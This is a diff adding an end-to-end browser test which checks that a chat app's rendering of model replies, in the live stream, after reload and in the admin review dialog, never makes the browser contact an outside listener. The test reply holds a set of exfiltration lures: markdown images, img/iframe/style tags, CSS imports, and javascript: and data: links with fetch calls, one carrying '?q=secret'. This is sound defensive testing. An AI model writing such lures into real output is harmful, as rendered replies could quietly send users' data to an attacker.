@@ -1,0 +1,79 @@
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { startModelServer } from "#server/testing/model-server.ts";
+import { expect, expectAccessible, signIn, test } from "./fixtures.ts";
+
+const policy =
+  "Refund Policy\n\n1. Time limits\nA customer may return an unopened product within 30 days of delivery.\n";
+const right = "A customer may return an unopened product within 30 days of delivery [1].";
+
+/** Whoever a reply would lure the browser to. */
+async function startListener(): Promise<{ url: string; hits: string[]; close(): void }> {
+  const hits: string[] = [];
+  const server = createServer((request, response) => {
+    hits.push(request.url ?? "");
+    response.end();
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const { port } = server.address() as AddressInfo;
+  return { url: `http://127.0.0.1:${port}`, hits, close: () => void server.close() };
+}
+
+test("nothing a model writes makes the browser ask anyone, in the stream, in history and in review (L3)", async ({
+  page,
+  url,
+  api,
+  company,
+}) => {
+  const listener = await startListener();
+  const model = await startModelServer(Number(process.env.FOOTNOTE_MODEL_PORT));
+  const lures = [
+    `![a](${listener.url}/inline?q=secret)`,
+    `![a][r]\n\n[r]: ${listener.url}/reference`,
+    `<img src="${listener.url}/html"><link rel="stylesheet" href="${listener.url}/css">`,
+    `<style>@import "${listener.url}/style";body{background:url(${listener.url}/bg)}</style>`,
+    `<svg><image href="${listener.url}/svg"/></svg><iframe src="${listener.url}/frame"></iframe>`,
+    `[click](javascript:fetch('${listener.url}/js')) <${listener.url}/autolink> ${listener.url}/bare`,
+    `[x](data:text/html,<script>fetch('${listener.url}/data')</script>) ![p](//127.0.0.1:${new URL(listener.url).port}/relative)`,
+    `<script>fetch("${listener.url}/script")</script><a ping="${listener.url}/ping" href="#">x</a>`,
+  ];
+  // pieces of twelve characters: every lure is split over several parts of the stream
+  model.behave({ kind: "answer", reply: () => `${right}\n\n${lures.join("\n\n")}\n\n${right}` });
+  try {
+    await api("PUT", `/api/companies/${company.companyId}`, { openaiApiKey: "sk-test-1234567890" });
+    await api("POST", "/api/themes", { name: "Refunds", workspaceId: company.workspaceId });
+    await signIn(page, url, company.admin);
+    await page.waitForURL("**/themes");
+    const card = page.getByRole("article", { name: "Refunds" });
+    await card.getByRole("button", { name: "Edit Refunds" }).click();
+    const edit = page.getByRole("dialog", { name: "Edit Theme" });
+    await edit.getByRole("tab", { name: "Documents" }).click();
+    const file = { name: "Refund Policy.txt", mimeType: "text/plain", buffer: Buffer.from(policy) };
+    await edit.locator("input[type=file]").setInputFiles([file]);
+    await edit.getByRole("button", { name: "Upload 1 File" }).click();
+    const documents = edit.getByRole("region", { name: "Uploaded documents" });
+    await expect(documents.getByText("Ready")).toBeVisible({ timeout: 20_000 });
+    await page.goto(`${url}/agent-workbench`);
+    await page.getByRole("textbox").last().fill("How many days to return an unopened product?");
+    await page.keyboard.press("Enter");
+    await expect(page.getByText(/sentences? confirmed in the sources/)).toBeVisible();
+    await expect(
+      page.locator("article img, article iframe, article style, article script, article link"),
+    ).toHaveCount(0);
+    for (const link of await page.locator("article a").all())
+      expect(await link.getAttribute("href")).toMatch(/^(?:https?:|mailto:)/);
+    await expectAccessible(page);
+    await page.reload();
+    await page.goto(`${url}/admin?tab=interactions`);
+    await page
+      .getByRole("button", { name: /details/i })
+      .first()
+      .click();
+    await expect(page.getByRole("dialog")).toBeVisible();
+    await page.waitForTimeout(500);
+    expect(listener.hits).toEqual([]);
+  } finally {
+    listener.close();
+    await model.close();
+  }
+});
